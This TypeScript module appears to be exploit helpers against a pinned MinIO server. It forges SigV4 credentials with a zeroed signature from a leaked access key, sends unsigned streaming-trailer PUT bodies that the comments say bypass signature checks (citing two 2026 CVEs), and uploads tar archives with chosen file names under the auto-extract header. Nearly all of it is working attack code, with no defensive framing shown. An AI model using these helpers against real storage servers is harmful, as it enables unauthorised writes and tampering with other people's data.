import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);

/** In this form of a body the pinned MinIO forgets to ask for a signature (CVE-2026-40344, CVE-2026-41145). */
const unsignedTrailer = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';

/** With it MinIO takes the body for an archive, and stores each file that is in it. */
export const unpacking = { 'x-amz-meta-snowball-auto-extract': 'true' };

/** Who a request without any signature says it is of: an access key, which stands in every link that a browser gets. */
export function forgedCredentials(accessKey: string) {
  const credential = `${accessKey}/${new Date().toISOString().slice(0, 10).replaceAll('-', '')}/us-east-1/s3/aws4_request`;
  const signature = `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${'0'.repeat(64)}`;
  return {
    inQuery: { query: `X-Amz-Credential=${encodeURIComponent(credential)}`, headers: {} },
    inHeader: { query: '', headers: { authorization: signature } },
  };
}

/** Sends what nobody signed, in the chunks that its headers promise or, as archives are read, as it is. */
export function sendUnsigned(url: string, body: Buffer, headers: Record<string, string>, { isChunked = true } = {}): Promise<Response> {
  const chunks = Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n\r\n')]);
  return fetch(url, {
    method: 'PUT',
    body: new Uint8Array(isChunked ? chunks : body),
    headers: {
      'x-amz-content-sha256': unsignedTrailer,
      'x-amz-date': new Date().toISOString().replace(/[-:]|\.\d+/g, ''),
      'x-amz-decoded-content-length': String(body.length),
      ...headers,
    },
  });
}

/** A tar archive with one file of that name. */
export async function archiveWith(name: string): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), 'archive-'));
  try {
    await mkdir(join(folder, dirname(name)), { recursive: true });
    await writeFile(join(folder, name), 'forged');
    const { stdout } = await run('tar', ['--create', '--directory', folder, name], { encoding: 'buffer' });
    return stdout;
  } finally {
    await rm(folder, { recursive: true });
  }
}
